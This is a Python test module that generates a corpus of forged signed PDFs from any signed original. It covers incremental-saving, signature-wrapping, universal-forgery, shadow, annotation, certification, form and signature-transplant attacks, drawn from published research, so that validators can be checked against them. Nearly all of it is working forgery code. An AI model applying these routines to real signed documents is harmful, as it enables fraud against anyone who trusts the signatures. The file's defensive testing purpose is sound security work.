"""Every class of attack on signed PDFs that we know of, made from any signed file, and the updates that do no harm.

``cases`` yields them by name and class, so that whoever validates, compares or shows files goes through all of them:
Mladenov et al. (CCS 2019: universal forgery, incremental saving, wrapping), Mainka et al. (NDSS 2021: shadow attacks),
Rohlmann et al. (S&P 2021: certification attacks), and what else changes what a reader shows. Updates are written as
careful forgers write them, with the trailer of the original, so that nothing but the attack gives them away.
"""

from __future__ import annotations

import io
import re
import zlib
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass

import pikepdf
from pikepdf import Array, Dictionary, Name, Object, Pdf, String

from tests.security import attacks


@dataclass(frozen=True)
class Case:
    """One file of the corpus."""

    name: str
    attack_class: str
    data: bytes
    harmless: bool = False
    """It has to pass; every other file must never be called genuine."""


Attack = Callable[[bytes], bytes]
Edit = Callable[[Pdf], list[Object]]


class NotPossible(Exception):
    """This file has not what the attack needs, such as an attachment."""


_ATTACKS: dict[str, tuple[str, Attack]] = {}


def cases(originals: Mapping[str, bytes], only: str = "") -> Iterator[Case]:
    """Every attack on every original; ``only`` those whose class begins so."""
    for kind, data in originals.items():
        for name, (attack_class, attack) in _ATTACKS.items():
            if not attack_class.startswith(only):
                continue
            try:
                altered = attack(data)
            except NotPossible:
                continue
            assert altered != data, name
            yield Case(f"{kind}: {name}", attack_class, altered)


def classes() -> set[str]:
    return {attack_class for attack_class, _ in _ATTACKS.values()}


def names(attack_class: str = "") -> list[str]:
    return [name for name, (its_class, _) in _ATTACKS.items() if its_class.startswith(attack_class)]


def _is(attack_class: str, name: str) -> Callable[[Attack], Attack]:
    def keep(attack: Attack) -> Attack:
        whole = f"{attack_class}: {name}"
        assert whole not in _ATTACKS
        _ATTACKS[whole] = attack_class, attack
        return attack

    return keep


# ---- writing updates


def trailer_of(pdf: Pdf, prev: int | None, size: int, root: bytes = b"") -> bytes:
    root = root or b"%d %d R" % pdf.Root.objgen
    out = b"<< /Size %d /Root %s" % (size, root)
    if "/Info" in pdf.trailer:
        out += b" /Info %d %d R" % pdf.trailer.Info.objgen
    if "/ID" in pdf.trailer:
        out += b" /ID " + pdf.trailer.ID.unparse()
    return out + (b" /Prev %d >>" % prev if prev is not None else b" >>")


def body_of(value: Object) -> bytes:
    if isinstance(value, pikepdf.Stream):
        raw = value.read_raw_bytes()
        head = {key: value.get(key) for key in value if key != "/Length"}
        return Dictionary(head).unparse()[:-2] + b" /Length %d >>\nstream\n%s\nendstream" % (len(raw), raw)
    return value.unparse(resolved=True)


def updated(data: bytes, edit: Edit, *, table: str = "proper", tail: bytes = b"%%EOF\n") -> bytes:
    """An incremental update with the objects that ``edit`` returns.

    ``table``: proper; none (no cross-reference at all); old (one is written, startxref points at the earlier one);
    same (startxref of the old table, none written); stream is never used, our files have tables.
    """
    with pikepdf.open(io.BytesIO(data)) as pdf:
        touched = edit(pdf)
        bodies = {(int(one.objgen[0]), int(one.objgen[1])): body_of(one) for one in touched}
        size = max(int(pdf.trailer.Size), *(number + 1 for number, _ in bodies))
        previous = attacks.last_startxref(data)
        trailer = trailer_of(pdf, previous, size)
    return written(data, bodies, trailer, previous, table=table, tail=tail)


def written(
    data: bytes,
    bodies: Mapping[tuple[int, int], bytes],
    trailer: bytes,
    previous: int,
    *,
    table: str = "proper",
    tail: bytes = b"%%EOF\n",
) -> bytes:
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offsets = {}
    for number in sorted(bodies):
        offsets[number] = len(out)
        out += b"%d %d obj\n%s\nendobj\n" % (*number, bodies[number])
    start = len(out)
    if table == "none":
        return bytes(out)
    if table != "same":
        out += b"xref\n"
        for number, generation in sorted(offsets):
            out += b"%d 1\n%010d %05d n \n" % (number, offsets[number, generation], generation)
        out += b"trailer\n" + trailer + b"\n"
    return bytes(out) + b"startxref\n%d\n" % (start if table == "proper" else previous) + tail


def stream(pdf: Pdf, content: bytes, **entries: object) -> Object:
    made = pdf.make_stream(content)
    for key, value in entries.items():
        made[Name(f"/{key}")] = value
    return made


_HELVETICA = {"/Type": Name.Font, "/Subtype": Name.Type1, "/BaseFont": Name("/Helvetica-Bold")}
FORGED = b"q 1 g 60 400 400 60 re f 0 g BT /Fx 24 Tf 72 420 Td (FORGED 9999) Tj ET Q"


def _with_font(pdf: Pdf, page: Object) -> list[Object]:
    """A font called /Fx in the resources of a page; returns what was touched besides the page."""
    resources = page.Resources
    if "/Font" not in resources:
        resources[Name.Font] = Dictionary()
    resources.Font[Name("/Fx")] = Dictionary(_HELVETICA)
    return [one for one in (resources, resources.Font) if one.objgen != (0, 0)]


def forged_page(pdf: Pdf) -> list[Object]:
    """The page says something else: its content is written anew, with the old one before it."""
    page = pdf.pages[0].obj
    touched = _with_font(pdf, page)
    old = page.Contents
    parts = [*old] if isinstance(old, Array) else [old]
    added = stream(pdf, FORGED)
    page.Contents = Array([*parts, added])
    return [page, added, *touched]


def forged_content(pdf: Pdf) -> list[Object]:
    """The same object number, another content."""
    old = pdf.pages[0].obj.Contents
    last = old[-1] if isinstance(old, Array) else old
    text = last.read_bytes() + b"\nq 1 0 0 rg 60 400 400 60 re f Q\n"
    last.write(text)
    return [last]


# ---- incremental saving


for _table in ("proper", "none", "old", "same"):
    _is("ISA", f"page rewritten, table {_table}")(lambda data, table=_table: updated(data, forged_page, table=table))
    _is("ISA", f"content replaced, table {_table}")(
        lambda data, table=_table: updated(data, forged_content, table=table)
    )


@_is("ISA", "catalog and page tree anew, no table")
def _(data: bytes) -> bytes:
    return _second_catalog(data, table="none")


@_is("ISA", "catalog and page tree anew, trailer without table")
def _(data: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        trailer = trailer_of(pdf, None, 9_100, root=b"9000 0 R")
    return _second_catalog(data, table="none") + b"trailer\n" + trailer + b"\n%%EOF\n"


@_is("ISA", "catalog and page tree anew, proper table")
def _(data: bytes) -> bytes:
    return _second_catalog(data, table="proper")


def _second_catalog(data: bytes, table: str) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        form = pdf.Root.AcroForm.unparse()
        trailer = trailer_of(pdf, attacks.last_startxref(data), 9_100, root=b"9000 0 R")
    bodies = {
        (9000, 0): b"<< /Type /Catalog /Pages 9001 0 R /AcroForm " + form + b" >>",
        (9001, 0): b"<< /Type /Pages /Count 1 /Kids [9002 0 R] >>",
        (9002, 0): b"<< /Type /Page /Parent 9001 0 R /MediaBox [0 0 595 842] /Contents 9003 0 R"
        b" /Resources << /Font << /Fx << /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold >> >> >> >>",
        (9003, 0): b"<< /Length %d >>\nstream\n%s\nendstream" % (len(FORGED), FORGED),
    }
    return written(data, bodies, trailer, attacks.last_startxref(data), table=table)


@_is("ISA", "page tree replaced in place, no table")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        page = pdf.make_indirect(
            Dictionary(Type=Name.Page, Parent=pdf.Root.Pages, MediaBox=Array([0, 0, 595, 842]), Resources=Dictionary())
        )
        page.Contents = stream(pdf, b"0 0 300 300 re f")
        pdf.Root.Pages.Kids = Array([page])
        pdf.Root.Pages.Count = 1
        return [pdf.Root.Pages, page, page.Contents]

    return updated(data, edit, table="none")


@_is("ISA", "object after the end, no end mark")
def _(data: bytes) -> bytes:
    return updated(data, forged_content, table="none")[:-1] + b"  "


@_is("ISA", "a table in the middle that Prev leads back to")
def _(data: bytes) -> bytes:
    altered = updated(data, forged_content)
    return altered + altered[len(data) :]


# ---- wrapping


def _set_range(data: bytes, text: bytes) -> bytes:
    """The range of the last signature rewritten, where it has the room."""
    match = list(attacks.BYTE_RANGE.finditer(data))[-1]
    if len(text) > match.end() - match.start():
        raise NotPossible
    return attacks.set_byte_range(data, text)


def _last(data: bytes) -> tuple[int, int, int]:
    _, start, end, rest = attacks.byte_ranges(data)[-1]
    return start, end, rest


@_is("SWA", "second part moved, forged object in the gap")
def _(data: bytes) -> bytes:
    start, end, rest = _last(data)
    number = attacks.page_content_number(data)
    forged = b"\n%d 0 obj\n%s\nendobj\n" % (number, attacks.other_content())
    moved = data[:end] + forged + data[end:]
    return _set_range(moved, b"/ByteRange [0 %d %d %d]" % (start, end + len(forged), rest))


@_is("SWA", "second part relocated to the end, padded gap")
def _(data: bytes) -> bytes:
    start, end, rest = _last(data)
    gap = b"00" * 400
    moved = data[: end - 1] + gap + data[end - 1 :]
    return _set_range(moved, b"/ByteRange [0 %d %d %d]" % (start, end + len(gap), rest))


@_is("SWA", "second part copied behind a forged file end")
def _(data: bytes) -> bytes:
    start, end, rest = _last(data)
    altered = updated(data, forged_content)
    moved = altered + data[end : end + rest]
    return _set_range(moved, b"/ByteRange [0 %d %d %d]" % (start, len(altered), rest))


@_is("SWA", "a second ByteRange in the same dictionary")
def _(data: bytes) -> bytes:
    start, end, rest = _last(data)
    match = list(attacks.BYTE_RANGE.finditer(data))[-1]
    text = b"/ByteRange [0 %d %d %d]" % (start, end, rest)
    doubled = text + b"/ByteRange[0 1 2 3]"
    if len(doubled) > match.end() - match.start():
        return data[: match.start()] + text + b"/ByteRange [0 1 2 3]" + data[match.end() :]
    return _set_range(data, doubled)


@_is("SWA", "range begins later")
def _(data: bytes) -> bytes:
    start, end, rest = _last(data)
    return _set_range(data, b"/ByteRange [1 %d %d %d]" % (start - 1, end, rest))


@_is("SWA", "range ends earlier")
def _(data: bytes) -> bytes:
    start, end, rest = _last(data)
    return _set_range(data, b"/ByteRange [0 %d %d %d]" % (start, end, rest - 9))


@_is("SWA", "the range points into another file, whole behind this one")
def _(data: bytes) -> bytes:
    altered = updated(data, forged_content)
    return altered + b"\n" + data


# ---- universal forgery


_RANGES = {
    "missing": b"",
    "null": b"/ByteRange null",
    "empty": b"/ByteRange []",
    "three numbers": b"/ByteRange [0 10 20]",
    "five numbers": b"/ByteRange [0 10 20 30 40]",
    "two numbers": b"/ByteRange [0 10]",
    "negative": b"/ByteRange [0 -10 20 30]",
    "all negative": b"/ByteRange [-1 -1 -1 -1]",
    "overlapping": b"/ByteRange [0 900 100 999]",
    "beyond the file": b"/ByteRange [0 10 20 99999999]",
    "zeros": b"/ByteRange [0 0 0 0]",
    "nothing but the head": b"/ByteRange [0 9 9 9]",
    "floats": b"/ByteRange [0.0 1.5 20.5 30.5]",
    "names": b"/ByteRange [/a /b /c /d]",
    "a string": b"/ByteRange (0 10 20 30)",
    "a number": b"/ByteRange 7",
    "a dictionary": b"/ByteRange <</a 1>>",
    "a reference to itself": b"/ByteRange [1 0 R 1 0 R]",
}
for _name, _text in _RANGES.items():
    _is("USF", f"ByteRange {_name}")(lambda data, text=_text: _set_range(data, text))


def _set_contents(data: bytes, text: bytes) -> bytes:
    start, end, _ = _last(data)
    return data[:start] + text[: end - start].ljust(end - start) + data[end:]


_CONTENTS = {
    "null": b" null",
    "empty": b"<>",
    "0x00": b"<00>",
    "0x30": b"<30>",
    "garbage": b"<" + b"DEADBEEF" * 32 + b">",
    "a literal string": b"(abc)",
    "a number": b" 12",
    "a name": b"/Nothing",
    "an array": b"[<30>]",
    "a reference": b" 1 0 R",
    "a truncated CMS": b"<3082FFFF06092A864886F70D010702>",
    "a CMS without signers": b"<300F06092A864886F70D010702A0023000>",
}
for _name, _text in _CONTENTS.items():
    _is("USF", f"Contents {_name}")(lambda data, text=_text: _set_contents(data, text))


@_is("USF", "Contents missing")
def _(data: bytes) -> bytes:
    start, end, _ = _last(data)
    at = data.rindex(b"/Contents", 0, start + 1)
    return data[:at] + b" " * (end - at) + data[end:]


@_is("USF", "Contents of zeros")
def _(data: bytes) -> bytes:
    return attacks.set_contents(data, b"")


def _signature_edit(change: Callable[[Object], None]) -> Attack:
    """An update that replaces the dictionary of the last signature."""

    def edit(pdf: Pdf) -> list[Object]:
        value = _last_field(pdf).V
        change(value)
        return [value]

    return lambda data: updated(data, edit)


def _last_field(pdf: Pdf) -> Object:
    filled = [field for field in pdf.Root.AcroForm.Fields if "/V" in field and isinstance(field.V, Dictionary)]
    return max(filled, key=lambda field: int(field.V.ByteRange[2]) + int(field.V.ByteRange[3]))


def _without(key: str) -> Callable[[Object], None]:
    def change(value: Object) -> None:
        del value[key]

    return change


for _key in ("/ByteRange", "/Contents", "/Filter", "/SubFilter", "/Type"):
    _is("USF", f"update: {_key} taken out")(_signature_edit(_without(_key)))


def _with(key: str, made: object) -> Callable[[Object], None]:
    def change(value: Object) -> None:
        value[key] = made

    return change


_is("USF", "update: SubFilter unknown")(_signature_edit(_with("/SubFilter", Name("/Nobody.knows"))))
_is("USF", "update: Filter unknown")(_signature_edit(_with("/Filter", Name("/Nobody.knows"))))
_is("USF", "update: signature of another type")(_signature_edit(_with("/Type", Name("/Nothing"))))


@_is("USF", "SubFilter unknown in the signed bytes")
def _(data: bytes) -> bytes:
    return data.replace(b"/ETSI.CAdES.detached", b"/GM.sm2seal.detached")


@_is("USF", "V is null")
def _(data: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        field = _last_field(pdf)
        told = re.sub(rb"/V \d+ 0 R", b"/V null", field.unparse(resolved=True))
        trailer = trailer_of(pdf, attacks.last_startxref(data), int(pdf.trailer.Size))
        return written(data, {(int(field.objgen[0]), 0): told}, trailer, attacks.last_startxref(data))


@_is("USF", "V is an empty dictionary")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        field = _last_field(pdf)
        field.V = Dictionary()
        return [field]

    return updated(data, edit)


# ---- shadow attacks: something prepared in the signed file, or laid over it


FORGED_FACE = b"1 g 0 0 400 60 re f 0 g BT /Fx 24 Tf 12 20 Td (FORGED 9999) Tj ET"


def _appearance(pdf: Pdf, box: tuple[int, int], content: bytes = FORGED_FACE) -> Object:
    width, height = box
    return stream(
        pdf,
        content,
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, width, height]),
        Resources=Dictionary(Font=Dictionary(Fx=Dictionary(_HELVETICA))),
    )


def _annotated(kind: str, *, rect: tuple[int, int, int, int] = (60, 400, 460, 460), **entries: object) -> Attack:
    def edit(pdf: Pdf) -> list[Object]:
        page = pdf.pages[0].obj
        face = _appearance(pdf, (rect[2] - rect[0], rect[3] - rect[1]), b"0.9 g 0 0 400 60 re f 0 g 20 20 99 9 re f")
        note = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name(f"/{kind}"),
                Rect=Array(list(rect)),
                Contents=String("FORGED"),
                F=4,
                DA=String("/Helv 12 Tf 0 g"),
                AP=Dictionary(N=face),
                **entries,
            )
        )
        listed = page.get("/Annots")
        page.Annots = Array([*(listed if listed is not None else []), note])
        return [page, note, face]

    return lambda data: updated(data, edit)


for _kind in ("FreeText", "Stamp", "Redact", "Square", "Ink", "Watermark", "Highlight", "Text", "Popup", "Link"):
    _is("EAA", f"{_kind} annotation over the text")(_annotated(_kind))
_is("EAA", "FileAttachment annotation")(_annotated("FileAttachment"))
_is("EAA", "annotation of an unknown kind")(_annotated("Mystery"))
_is("EAA", "annotation outside the page")(_annotated("Stamp", rect=(-900, -900, -800, -800)))


@_is("EAA", "P raised from 2 to 3 by an update, then annotated")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        if "/Perms" not in pdf.Root:
            raise NotPossible
        value = pdf.Root.Perms.DocMDP
        for reference in value.Reference:
            if reference.TransformMethod == Name.DocMDP:
                reference.TransformParams.P = 3
        return [value]

    return _annotated("Stamp")(updated(data, edit))


@_is("EAA", "certification taken away, then annotated")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        if "/Perms" not in pdf.Root:
            raise NotPossible
        del pdf.Root.Perms
        return [pdf.Root]

    return _annotated("FreeText")(updated(data, edit))


def _new_field(kind: str, *, value: object = None, rect: tuple[int, ...] = (60, 400, 460, 460)) -> Attack:
    def edit(pdf: Pdf) -> list[Object]:
        page, form = pdf.pages[0].obj, pdf.Root.AcroForm
        face = _appearance(pdf, (400, 60))
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name(f"/{kind}"),
                T=String("Signature9"),
                Rect=Array(list(rect)),
                F=4,
                AP=Dictionary(N=face),
                P=page,
            )
        )
        if value is not None:
            field.V = value
        form.Fields.append(field)
        page.Annots = Array([*page.get("/Annots", Array([])), field])
        holder = form if form.objgen != (0, 0) else pdf.Root
        return [page, field, face, holder]

    return lambda data: updated(data, edit)


_is("SSA", "signature field with a picture over the text")(_new_field("Sig"))
_is("SSA", "signature field of no size with a picture")(_new_field("Sig", rect=(0, 0, 0, 0)))
_is("SSA", "text field over the text")(_new_field("Tx", value=String("FORGED")))
_is("SSA", "button over the text")(_new_field("Btn"))


@_is("SSA", "an open field's picture drawn over the text")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        open_fields = [field for field in pdf.Root.AcroForm.Fields if "/V" not in field]
        if not open_fields:
            raise NotPossible
        face = _appearance(pdf, (400, 60))
        open_fields[-1].AP = Dictionary(N=face)
        open_fields[-1].Rect = Array([60, 400, 460, 460])
        return [open_fields[-1], face]

    return updated(data, edit)


def _of_last_field(change: Callable[[Pdf, Object], list[Object]]) -> Attack:
    return lambda data: updated(data, lambda pdf: change(pdf, _last_shown(pdf)))


def _last_shown(pdf: Pdf) -> Object:
    fields = pdf.Root.AcroForm.Fields
    shown = [field for field in fields if "/AP" in field and "/V" in field and isinstance(field.V, Dictionary)]
    if not shown:
        raise NotPossible
    return shown[-1]


@_is("appearance", "a seal's picture replaced in its field")
@_of_last_field
def _(pdf: Pdf, field: Object) -> list[Object]:
    face = _appearance(pdf, (113, 113))
    field.AP = Dictionary(N=face)
    return [field, face]


@_is("appearance", "a seal's picture replaced in place")
@_of_last_field
def _(pdf: Pdf, field: Object) -> list[Object]:
    face = field.AP.N
    face.write(b"0 0 100 100 re f")
    return [face]


@_is("appearance", "a seal moved over the text")
@_of_last_field
def _(pdf: Pdf, field: Object) -> list[Object]:
    field.Rect = Array([60, 400, 460, 460])
    return [field]


@_is("appearance", "a seal hidden")
@_of_last_field
def _(pdf: Pdf, field: Object) -> list[Object]:
    field.F = 2
    return [field]


_is("appearance", "another reason")(_signature_edit(_with("/Reason", String("同意"))))
_is("appearance", "another name")(_signature_edit(_with("/Name", String("国务院"))))
_is("appearance", "another claimed time")(_signature_edit(_with("/M", String("D:20200101000000+08'00'"))))


@_is("shadow", "hide: what covered the text is taken away")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        page = pdf.pages[0].obj
        old = page.Contents
        parts = [*old] if isinstance(old, Array) else [old]
        page.Contents = Array(parts[1:])
        return [page]

    return updated(data, edit)


@_is("shadow", "hide: a drawn object is made empty")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        drawn = pdf.pages[0].obj.Resources.get("/XObject")
        if drawn is None or not list(drawn.keys()):
            raise NotPossible
        target = drawn[min(drawn.keys())]
        target.write(b"")
        return [target]

    return updated(data, edit)


@_is("shadow", "hide: a drawn object freed in the table")
def _(data: bytes) -> bytes:
    number = attacks.page_content_number(data)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        trailer = trailer_of(pdf, attacks.last_startxref(data), int(pdf.trailer.Size))
    start = len(data)
    return data + b"xref\n%d 1\n%010d 00001 f \ntrailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (number, 0, trailer, start)


@_is("shadow", "replace: a table alone points to an object laid elsewhere in the file")
def _(data: bytes) -> bytes:
    """The classic: no object is appended, only an entry that leads to other bytes."""
    number = attacks.page_content_number(data)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        trailer = trailer_of(pdf, attacks.last_startxref(data), int(pdf.trailer.Size))
        other = max(1, number - 1)
    found = re.search(rb"(?:^|\n)%d 0 obj" % other, data)
    if found is None:
        raise NotPossible
    start = len(data)
    offset = data.index(b"%d 0 obj" % other, found.start())
    return data + b"xref\n%d 1\n%010d 00000 n \ntrailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (
        number,
        offset,
        trailer,
        start,
    )


@_is("shadow", "replace: the content under a new generation")
def _(data: bytes) -> bytes:
    number = attacks.page_content_number(data)
    with pikepdf.open(io.BytesIO(data)) as pdf:
        page = pdf.pages[0].obj
        told = re.sub(rb"\b%d 0 R" % number, b"%d 1 R" % number, page.unparse(resolved=True))
        trailer = trailer_of(pdf, attacks.last_startxref(data), int(pdf.trailer.Size))
        bodies = {(number, 1): attacks.other_content(), (int(page.objgen[0]), 0): told}
    return written(data, bodies, trailer, attacks.last_startxref(data))


@_is("shadow", "replace: a font by another one")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        fonts = pdf.pages[0].obj.Resources.Font
        font = fonts[min(fonts.keys())]
        if font.objgen == (0, 0):
            raise NotPossible
        for key in list(font.keys()):
            del font[key]
        for key, value in _HELVETICA.items():
            font[key] = value
        return [font]

    return updated(data, edit)


@_is("shadow", "replace: the glyphs of a font")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        for one in pdf.objects:
            if isinstance(one, Dictionary) and "/FontFile2" in one:
                one.FontFile2.write(zlib.decompress(zlib.compress(b"\0" * 64)))
                return [one.FontFile2]
        raise NotPossible

    return updated(data, edit)


@_is("shadow", "replace: what glyphs mean when they are copied")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        for one in pdf.objects:
            if isinstance(one, Dictionary) and "/ToUnicode" in one:
                one.ToUnicode.write(b"begincmap 1 beginbfrange <00> <ff> <0041> endbfrange endcmap")
                return [one.ToUnicode]
        raise NotPossible

    return updated(data, edit)


@_is("shadow", "hide and replace: a second page tree was signed along, the catalog shows it")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        page = pdf.make_indirect(Dictionary(Type=Name.Page, MediaBox=Array([0, 0, 595, 842]), Resources=Dictionary()))
        page.Contents = stream(pdf, b"0.2 g 50 50 300 300 re f")
        tree = pdf.make_indirect(Dictionary(Type=Name.Pages, Count=1, Kids=Array([page])))
        page.Parent = tree
        pdf.Root.Pages = tree
        return [pdf.Root, tree, page, page.Contents]

    return updated(data, edit)


@_is("shadow", "overlay: a form object drawn last")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        page = pdf.pages[0].obj
        face = _appearance(pdf, (400, 60))
        resources = page.Resources
        if "/XObject" not in resources:
            resources[Name.XObject] = Dictionary()
        resources.XObject[Name("/Over")] = face
        added = stream(pdf, b"q 1 0 0 1 60 400 cm /Over Do Q")
        old = page.Contents
        page.Contents = Array([*([*old] if isinstance(old, Array) else [old]), added])
        more = [one for one in (resources, resources.XObject) if one.objgen != (0, 0)]
        return [page, face, added, *more]

    return updated(data, edit)


# ---- forms


def _form_edit(change: Callable[[Object], None]) -> Attack:
    def edit(pdf: Pdf) -> list[Object]:
        form = pdf.Root.AcroForm
        change(form)
        return [form if form.objgen != (0, 0) else pdf.Root]

    return lambda data: updated(data, edit)


_is("forms", "NeedAppearances switched on")(_form_edit(_with("/NeedAppearances", True)))


def _of_fields_with_text(form: Object) -> None:
    if "/DA" not in form and all(field.get("/FT") == "/Sig" for field in form.Fields):
        raise NotPossible
    form.DA = String("/Helv 40 Tf 1 0 0 rg")


_is("forms", "another default look")(_form_edit(_of_fields_with_text))
_is("forms", "XFA added")(_form_edit(_with("/XFA", String("<xdp/>"))))
_is("forms", "SigFlags taken away")(_form_edit(_without("/SigFlags")))


@_is("forms", "a seal's field becomes a text field with a value")
@_of_last_field
def _(pdf: Pdf, field: Object) -> list[Object]:
    field.FT = Name.Tx
    field.V = String("FORGED")
    return [field]


@_is("forms", "a seal's field renamed")
@_of_last_field
def _(pdf: Pdf, field: Object) -> list[Object]:
    field.T = String("minister")
    return [field]


# ---- signatures stripped, doubled, carried over


@_is("signatures", "the last one taken out of its field")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        field = _last_field(pdf)
        del field.V
        return [field]

    return updated(data, edit)


@_is("signatures", "all taken out of their fields")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        filled = [field for field in pdf.Root.AcroForm.Fields if "/V" in field]
        for field in filled:
            del field.V
        return filled

    return updated(data, edit)


@_is("signatures", "all gone with the form")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        del pdf.Root.AcroForm
        return [pdf.Root]

    return updated(data, edit)


@_is("signatures", "all gone with the field list")
def _(data: bytes) -> bytes:
    return _form_edit(_with("/Fields", Array([])))(data)


@_is("signatures", "the last one shown by a second field")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        form = pdf.Root.AcroForm
        twin = pdf.make_indirect(Dictionary(FT=Name.Sig, T=String("twin"), V=_last_field(pdf).V))
        form.Fields.append(twin)
        return [twin, form if form.objgen != (0, 0) else pdf.Root]

    return updated(data, edit)


@_is("signatures", "saved anew by an ordinary tool")
def _(data: bytes) -> bytes:
    return attacks.rewritten(data)


@_is("signatures", "saved anew with something drawn")
def _(data: bytes) -> bytes:
    return attacks.rewritten(data, b"q 0 0 60 60 re f Q")


@_is("signatures", "carried into another file")
def _(data: bytes) -> bytes:
    """The dictionary of the last signature, whole, in a file that was never signed."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as source, pikepdf.new() as target:
        target.add_blank_page(page_size=(595, 842))
        head = _last_field(source).V
        copied = Dictionary({key: head.get(key) for key in head if key in ("/Type", "/Filter", "/SubFilter", "/M")})
        copied.Contents = String(bytes(head.Contents))
        copied.ByteRange = Array([int(number) for number in head.ByteRange])
        field = target.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Widget,
                FT=Name.Sig,
                T=String("authority"),
                V=target.make_indirect(copied),
                Rect=Array([0, 0, 0, 0]),
            )
        )
        target.pages[0].obj.Annots = Array([field])
        target.Root.AcroForm = Dictionary(Fields=Array([field]), SigFlags=3)
        target.save(out)
    return out.getvalue()


@_is("signatures", "cut off in the middle of the last one")
def _(data: bytes) -> bytes:
    start, end, _ = _last(data)
    return data[: (start + end) // 2]


# ---- attachments, description, pages, layers, actions


@_is("attachments", "the record swapped in place")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        for name in list(pdf.attachments):
            held = pdf.attachments[name].obj.EF.F
            held.write(b'{"holder":"FORGED"}')
            return [held]
        raise NotPossible

    return updated(data, edit)


@_is("forms", "a value filled in anew")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        texts = [field for field in pdf.Root.AcroForm.Fields if field.get("/FT") == "/Tx"]
        if not texts:
            raise NotPossible
        texts[0].V = String("900")
        return texts[:1]

    return updated(data, edit)


@_is("attachments", "one added")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        held = stream(pdf, b'{"holder":"FORGED"}', Type=Name("/EmbeddedFile"))
        named = pdf.make_indirect(
            Dictionary(
                Type=Name.Filespec, F=String("record.json"), UF=String("record.json"), EF=Dictionary(F=held, UF=held)
            )
        )
        pdf.Root.AF = Array([named])
        pdf.Root.Names = Dictionary(EmbeddedFiles=Dictionary(Names=Array([String("record.json"), named])))
        return [pdf.Root, named, held]

    return updated(data, edit)


@_is("attachments", "all removed")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        if not len(pdf.attachments):
            raise NotPossible
        for key in ("/AF", "/Names"):
            if key in pdf.Root:
                del pdf.Root[key]
        return [pdf.Root]

    return updated(data, edit)


@_is("description", "another title in the information dictionary")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        info = pdf.trailer.Info
        info.Title = String("一级资质证书")
        return [info]

    return updated(data, edit)


@_is("description", "another title in XMP")
def _(data: bytes) -> bytes:
    def edit(pdf: Pdf) -> list[Object]:
        if "/Metadata" not in pdf.Root:
            raise NotPossible
        packet = pdf.Root.Metadata
        text = packet.read_bytes()
        if b"<rdf:li" not in text:
            raise NotPossible
        packet.write(re.sub(rb"(<rdf:li[^>]*>)[^<]*", rb"\1FORGED", text))
        return [packet]

    return updated(data, edit)


def _pages_edit(change: Callable[[Pdf], list[Object]]) -> Attack:
    return lambda data: updated(data, change)


@_is("pages", "one added")
@_pages_edit
def _(pdf: Pdf) -> list[Object]:
    tree = pdf.Root.Pages
    page = pdf.make_indirect(
        Dictionary(Type=Name.Page, Parent=tree, MediaBox=Array([0, 0, 595, 842]), Resources=Dictionary())
    )
    page.Contents = stream(pdf, b"0.5 g 60 60 400 400 re f")
    tree.Kids.append(page)
    tree.Count = int(tree.Count) + 1
    return [tree, page, page.Contents]


@_is("pages", "the last removed")
@_pages_edit
def _(pdf: Pdf) -> list[Object]:
    tree = pdf.Root.Pages
    if len(tree.Kids) < 2:
        raise NotPossible
    tree.Kids = Array([*tree.Kids][:-1])
    tree.Count = len(tree.Kids)
    return [tree]


@_is("pages", "reordered")
@_pages_edit
def _(pdf: Pdf) -> list[Object]:
    tree = pdf.Root.Pages
    if len(tree.Kids) < 2:
        raise NotPossible
    tree.Kids = Array([*tree.Kids][::-1])
    return [tree]


@_is("pages", "cropped")
@_pages_edit
def _(pdf: Pdf) -> list[Object]:
    page = pdf.pages[0].obj
    page.CropBox = Array([0, 0, 300, 300])
    return [page]


@_is("pages", "turned")
@_pages_edit
def _(pdf: Pdf) -> list[Object]:
    page = pdf.pages[0].obj
    page.Rotate = 180
    return [page]


def _layered(pdf: Pdf, *, visible: bool) -> Object:
    group = pdf.make_indirect(Dictionary(Type=Name.OCG, Name=String("layer")))
    state = {"/ON" if visible else "/OFF": Array([group])}
    pdf.Root.OCProperties = Dictionary(OCGs=Array([group]), D=Dictionary(state))
    return group


